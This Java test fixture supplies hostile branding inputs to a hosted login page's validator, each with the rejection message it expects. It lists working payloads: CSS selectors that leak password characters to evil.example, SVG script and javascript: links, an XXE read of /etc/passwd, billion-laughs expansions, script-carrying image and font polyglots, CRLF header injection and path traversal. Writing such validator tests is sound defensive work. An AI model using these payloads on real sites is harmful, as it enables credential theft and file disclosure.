package dev.keypool.it.hostedui;

import static dev.keypool.it.hostedui.HostileFiles.bytes;
import static dev.keypool.it.hostedui.HostileFiles.join;
import static dev.keypool.it.hostedui.HostileFiles.picture;
import static dev.keypool.it.hostedui.HostileFiles.svg;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/** What somebody sends who has taken an administrator's token over, and what of the answer says why not. */
final class HostileBrandings {

    private HostileBrandings() {
    }

    static Stream<Arguments> all() {
        return Stream.of(sheets(), labels(), drafts(), vectors(), pixels(), fonts(), names(), files()).flatMap(cases -> cases);
    }

    private static Stream<Arguments> sheets() {
        return Stream.of(
                sheet("@import url(//evil.example/x.css);", "At-rules such as \"@import\" are not taken"),
                sheet("@\\69mport '//evil.example';", "Escapes are taken inside of strings only"),
                sheet("@font-face{font-family:a;src:url(//evil.example)}", "At-rules such as \"@font-face\""),
                sheet("@media all{.label-customizable{color:red}}", "At-rules such as \"@media\""),
                sheet("input[type=password][value$=a]{background:url(//evil.example/a)}", "begins no selector that is taken"),
                sheet("[value^=a]{color:red}", "selectors that look at attributes or at everything can read what people type"),
                sheet(".inputField-customizable[value^=a]{color:red}", "attributes, ids and further classes are not taken"),
                sheet(".inputField-customizable:has([value^=a]){color:red}", "Of states and pseudo-elements only"),
                sheet("*{color:red}", "everything can read what people type"),
                sheet("</style><script>hacked=1</script>{color:red}", "begins no selector that is taken"),
                sheet("\uFEFF\uFEFF.label-customizable{color:red}", "begins no selector"),
                sheet(".label-customizable{color:red\0}", "NUL"),
                sheet(".label-customizable{color:red}/*", "The comment that begins here does not end"),
                sheet("x".repeat(131_073), "larger than 131072 bytes"));
    }

    private static Stream<Arguments> labels() {
        return Stream.of(
                label("background:url(//evil.example)", "url() is not taken, wherever it leads"),
                label("background:url(data:image/svg+xml;base64,AAAA)", "url() is not taken"),
                label("background:\\75rl(//evil.example)", "Escapes are taken inside of strings only"),
                label("background:u/**/rl(//evil.example)", "is not taken in background"),
                label("background:image-set('//evil.example' 1x)", "The function \"image-set(\") is not taken"),
                label("cursor:url(//evil.example),auto", "url() is not taken"),
                label("width:expression(alert(1))", "The function \"expression(\") is not taken"),
                label("color:javascript:alert(1)", "\"javascript\" is not taken in color"),
                label("behavior:url(x.htc)", "it runs code in old browsers"),
                label("color:var(--a)", "The function \"var(\")"),
                label("--a:url(x)", "Custom properties"),
                label("content:attr(value)", "The property content belongs to ::before and ::after"),
                label("position:fixed", "\"fixed\" is not taken in position"),
                label("z-index:9", "can cover the page"),
                label("transform:scale(99)", "can cover the page"),
                label("clip-path:url(#a)", "it loads or cuts"),
                label("contain:none", "paints outside of its element"),
                label("pointer-events:none", "can be seen and not be used"),
                label("width:99999px", "is too much for width"),
                label("font-size:9999%", "is too much for font-size"),
                label("margin-top:-9999px", "is too much for margin-top"),
                label("margin-top:-20px", "would lay the element over its neighbour"),
                label("padding:200px", "it would be painted over what stands there"),
                label("flex-direction:column-reverse", "\"column-reverse\" is not taken"),
                label("box-shadow:0 0 0 999px white", "is too much for box-shadow"),
                label("outline:99px solid white", "is too much for outline"));
    }

    private static Stream<Arguments> drafts() {
        return Stream.of(
                draft("{\"css\":\".label-customizable::before{content:attr(value)}\"}", "The function \"attr(\") is not taken in content"),
                draft("{\"settings\":{\"components\":{\"form\":{\"lightMode\":{\"backgroundColor\":\"red;}*{x:y\"}}}}}", "is no color"),
                draft("{\"settings\":{\"components\":{\"form\":{\"borderRadius\":1e9}}}}", "a number from 0 to 100"),
                draft("{\"texts\":{\"en\":{\"doLogIn\":\"<img src=x onerror=alert(1)>\"}}}", "Texts are plain"),
                draft("{\"texts\":{\"en\":{\"doLogIn\":\"${env.SECRET}\"}}}", "Texts name no settings of the server"),
                draft("{\"texts\":{\"../../en\":{\"doLogIn\":\"x\"}}}", "This is no language"),
                draft("{\"links\":{\"terms-of-use\":{\"default\":\"javascript:alert(1)\"}}}", "starts with \\\"https://\\\""),
                draft("{\"links\":{\"terms-of-use\":{\"default\":\"data:text/html,x\"}}}", "starts with \\\"https://\\\""),
                draft("{\"links\":{\"terms-of-use\":{\"default\":\"https://a.example/\\r\\nSet-Cookie: a=b\"}}}", "starts with \\\"https://\\\""),
                draft("{\"fonts\":{\"text\":{\"family\":\"x;}*{background:url(//evil.example)\"}}}", "is no family here"),
                draft("{\"fonts\":{\"text\":{\"family\":\"uploaded\",\"src\":\"//evil.example\"}}}", "\\\"src\\\" is not known here"),
                draft("{\"assets\":[{\"category\":\"FORM_LOGO\",\"colorMode\":\"LIGHT\",\"extension\":\"PNG\",\"hash\":\"../../x\",\"size\":1}]}", "Pictures are uploaded and deleted"),
                draft("{\"css\":\"\",\"css\":\"\"}", "stands for the second time"),
                draft("[".repeat(100_000), "goes too deep"),
                draft("{\"texts\":\"" + "x".repeat(2_100_000) + "\"}", "more than 2097152 bytes"));
    }

    private static Stream<Arguments> vectors() {
        return Stream.of(
                logo("script", svg("<script>hacked=1</script>"), "The element \"script\" is not taken: it runs code"),
                logo("handler", svg("<g onload='hacked=1'/>"), "The attribute \"onload\" is not taken: it runs code"),
                logo("foreign object", svg("<foreignObject><b/></foreignObject>"), "brings pages into the picture"),
                logo("javascript:", svg("<use xlink:href='javascript:alert(1)'/>"), "refers to its own parts only"),
                logo("link", svg("<a href='//evil.example'><rect/></a>"), "leads nowhere"),
                logo("data URL", svg("<image href='data:image/png;base64,AAAA'/>"), "loads or holds another picture"),
                logo("use from elsewhere", svg("<use href='https://evil.example/x.svg#a'/>"), "refers to its own parts only"),
                logo("animated address", svg("<set attributeName='href' to='javascript:alert(1)'/>"), "could make a picture lead somewhere"),
                logo("@import", svg("<style>@import '//evil.example';</style>"), "Of at-rules only @media"),
                logo("@import in CDATA", svg("<style><![CDATA[@import '//evil.example';]]></style>"), "Of at-rules only @media"),
                logo("url()", svg("<rect fill='url(//evil.example)'/>"), "refers to its own parts only"),
                logo("stylesheet instruction", bytes("<?xml-stylesheet href='//evil.example'?><svg xmlns='http://www.w3.org/2000/svg'/>"), "A style sheet from elsewhere"),
                logo("entity", bytes("<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>"), "document type with declarations"),
                logo("thousand million laughs", bytes(HostileFiles.LAUGHS), "document type with declarations"),
                logo("laughs by use", svg("<g id='a0'><g/></g>" + laughsByUse()), "drawn of more than"),
                logo("UTF-16", "<svg xmlns='http://www.w3.org/2000/svg'/>".getBytes(StandardCharsets.UTF_16), "no picture in PNG"),
                logo("UTF-7", bytes("<?xml version='1.0' encoding='UTF-7'?><svg xmlns='http://www.w3.org/2000/svg'/>"), "only UTF-8 is taken"),
                logo("XML 1.1", bytes("<?xml version='1.1'?><svg xmlns='http://www.w3.org/2000/svg'><text>&#1;</text></svg>"), "only 1.0 is taken"),
                logo("HTML", bytes("<html><script>hacked=1</script></html>"), "is not taken"),
                logo("filters without end", svg("<filter><feMorphology radius='9999'/></filter>"), "radius goes to 50"));
    }

    private static Stream<Arguments> pixels() {
        return Stream.of(
                logo("GIF and script", bytes("GIF89a/*\0*/=1;alert(1)//"), "no picture in PNG"),
                logo("PNG and archive", join(picture("png"), bytes("PK\3\4")), "what is a picture and something else is not taken"),
                logo("JPEG and page", join(picture("jpg"), bytes("<script>hacked=1</script>")), "what is a picture and something else is not taken"),
                logo("icon and script", join(HostileFiles.ico(picture("png")), bytes("<script>")), "what is a picture and something else is not taken"),
                logo("icon of a script", HostileFiles.ico(bytes("<script>hacked=1</script>".repeat(3))), "neither a PNG nor a bitmap"),
                logo("WebP and page", HostileFiles.webp("HTML\4\0\0\0<hr>"), "no such chunk"),
                logo("large sides", HostileFiles.png(60_000), "60000 x 60000 pixels"),
                logo("unpacks to less", HostileFiles.png(4_000), "unpacks to less"),
                logo("oversized", new byte[1_000_001], "larger than 1000000 bytes"),
                logo("empty", new byte[0], "no picture in PNG"));
    }

    private static Stream<Arguments> fonts() {
        byte[] font = HostileFiles.font();
        return Stream.of(
                upload("font and script", asset("FONT_TEXT", "DYNAMIC", join(font, bytes("<script>hacked=1</script>"))), "what is a font and something else is not taken"),
                upload("page as font", asset("FONT_TEXT", "DYNAMIC", bytes("<script>hacked=1</script>")), "no font in WOFF2"),
                upload("picture as font", asset("FONT_HEADING", "DYNAMIC", picture("png")), "no font in WOFF2"),
                upload("font as picture", asset("FORM_LOGO", "LIGHT", font), "no picture in PNG"),
                upload("large font", asset("FONT_TEXT", "DYNAMIC", join(font, new byte[204_800])), "larger than 200 KB"));
    }

    private static Stream<Arguments> names() {
        byte[] good = svg("");
        return Stream.of(
                upload("way out of a folder", asset("FORM_LOGO", "LIGHT", good).put("resourceId", "../../x"), "The id of a resource has"),
                upload("header in a name", asset("FORM_LOGO", "LIGHT", good).put("resourceId", "a\r\nSet-Cookie: a=b"), "The id of a resource has"),
                upload("category", asset("../FORM_LOGO", "LIGHT", good), "is not known; known are"),
                upload("another type", asset("FORM_LOGO", "LIGHT", good).put("extension", "PNG"), "said to be PNG and is SVG"),
                upload("a name of a file", asset("FORM_LOGO", "LIGHT", good).put("file", "../x"), "is not known here"));
    }

    private static Stream<Arguments> files() {
        ObjectNode export = JsonNodeFactory.instance.objectNode();
        export.putArray("assets").add(asset("FORM_LOGO", "LIGHT", svg(""))).add(asset("FORM_LOGO", "DARK", svg("<script/>")));
        String scripted = Base64.getEncoder().encodeToString(svg("<script/>"));
        return Stream.of(
                Arguments.of("export with a script", "import", export.toString(), "$.assets[1] Line 1"),
                Arguments.of("Cognito's with a script", "import", "{\"ManagedLoginBranding\":{\"Assets\":[{\"Category\":\"FORM_LOGO\",\"ColorMode\":\"LIGHT\",\"Extension\":\"SVG\",\"Bytes\":\""
                        + scripted + "\"}]}}", "$.ManagedLoginBranding.Assets[0] Line 1"),
                Arguments.of("Cognito's with an import", "import", "{\"UICustomization\":{\"CSS\":\"@import url(//evil.example);\"}}", "At-rules"),
                Arguments.of("Cognito's with a way out", "import", "{\"Assets\":[{\"Category\":\"FORM_LOGO\",\"ColorMode\":\"LIGHT\",\"ResourceId\":\"../x\",\"Bytes\":\"AA==\"}]}", "The id of a resource has"));
    }

    private static String laughsByUse() {
        StringBuilder uses = new StringBuilder();
        for (int i = 1; i < 10; i++) {
            uses.append("<g id='a").append(i).append("'>").append(("<use href='#a" + (i - 1) + "'/>").repeat(10)).append("</g>");
        }
        return uses.toString();
    }

    private static Arguments label(String declaration, String sentence) {
        return sheet(".label-customizable{" + declaration + "}", sentence);
    }

    private static Arguments sheet(String css, String sentence) {
        return Arguments.of(shown(css), "", JsonNodeFactory.instance.objectNode().put("css", css).toString(), sentence);
    }

    private static Arguments draft(String json, String sentence) {
        return Arguments.of(shown(json), "", json, sentence.replace("\\\"", "\""));
    }

    private static Arguments logo(String name, byte[] bytes, String sentence) {
        return upload(name, asset("FORM_LOGO", "LIGHT", bytes), sentence);
    }

    private static Arguments upload(String name, ObjectNode asset, String sentence) {
        return Arguments.of(name, "assets", asset.toString(), sentence);
    }

    static ObjectNode asset(String category, String colorMode, byte[] bytes) {
        return JsonNodeFactory.instance.objectNode().put("category", category).put("colorMode", colorMode).put("bytes", Base64.getEncoder().encodeToString(bytes));
    }

    private static String shown(String text) {
        return text.substring(0, Math.min(60, text.length())).replaceAll("[^ -~]", "?");
    }
}
